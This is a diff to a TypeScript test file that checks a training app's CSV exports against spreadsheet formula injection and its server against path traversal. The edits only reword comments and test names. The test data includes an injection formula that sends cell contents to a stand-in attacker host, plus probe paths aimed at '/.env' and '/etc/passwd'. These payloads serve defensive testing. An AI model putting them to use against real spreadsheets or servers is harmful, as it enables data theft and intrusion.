@@ -1,4 +1,4 @@
-/** Cases 48 and 56 of the faults and attacks: tables that a spreadsheet opens, and the scorer under whatever people wrote. */
+/** Cases 48 and 56 of the faults and attacks: tables for spreadsheets, and the debrief of arbitrary texts. */
 import * as fc from 'fast-check';
 import Papa from 'papaparse';
 import { afterAll, beforeAll, expect, it } from 'vitest';
@@ -10,7 +10,7 @@ import { request } from '../../support/http.ts';
 import { startTestServer, type TestServer } from '../../support/test-server.ts';
 import { TestTrainee } from '../../support/test-trainee.ts';
 
-/** What spreadsheets take for a formula, also behind spaces and signs they overlook. */
+/** What spreadsheets treat as a formula, also after ignored spaces and characters. */
 const FORMULAS = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -24,7 +24,7 @@ const FORMULAS = [
   'a\r\n=1+1',
   '=1\u0000',
 ];
-/** How a spreadsheet decides that a cell is to be computed. */
+/** How a spreadsheet recognises a formula. */
 const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);
 const cells = (csv: string): string[] =>
   Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',' }).data.flat();
@@ -35,7 +35,7 @@ beforeAll(async () => {
 });
 afterAll(() => server.stop());
 
-it('whatever is written into a table, no cell of it is a formula, and every cell reads back whole', () => {
+it('no cell of a table is a formula, for any text, and every cell reads back complete', () => {
   const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a', '1') });
   fc.assert(
     fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 5 }), (rows) => {
@@ -51,7 +51,7 @@ it('whatever is written into a table, no cell of it is a formula, and every cell
   );
 });
 
-it('texts for a translator hold no formula either', async () => {
+it('texts for a translator contain no formula', async () => {
   const rows = FORMULAS.map((source, at) => ({
     path: `items.i${at}.text`,
     source,
@@ -63,7 +63,7 @@ it('texts for a translator hold no formula either', async () => {
   expect(cells(await writeExchange('csv', parcel)).filter(isFormula)).toEqual([]);
 });
 
-it('what leaves a server comes as a file, of the type it says, and holds no formula', async () => {
+it('every download is a file with a declared type and contains no formula', async () => {
   const trainer = await server.trainer();
   const { pin, exercise } = await trainer.opensClass({ label: '=1+1' });
   await trainer.entersRoom();
@@ -94,13 +94,13 @@ it.each([
   '/assets/con',
   '/.env',
   '/assets//etc/passwd',
-])('the address %s leads to no file outside', async (path) => {
+])('the address %s serves no file outside', async (path) => {
   const answer = await request(`${server.url}${path}`);
   expect(JSON.stringify(answer.body)).not.toMatch(/"?dependencies|root:|format: 1/);
   expect(answer.status).not.toBe(500);
 });
 
-it('whatever people wrote, and whatever is missing of it, a debrief ends, and every mark is one of its marks', () => {
+it('a debrief completes with valid marks for any texts and any missing texts', () => {
   const compiled = aScenario();
   const odd = fc.oneof(
     fc.double(),
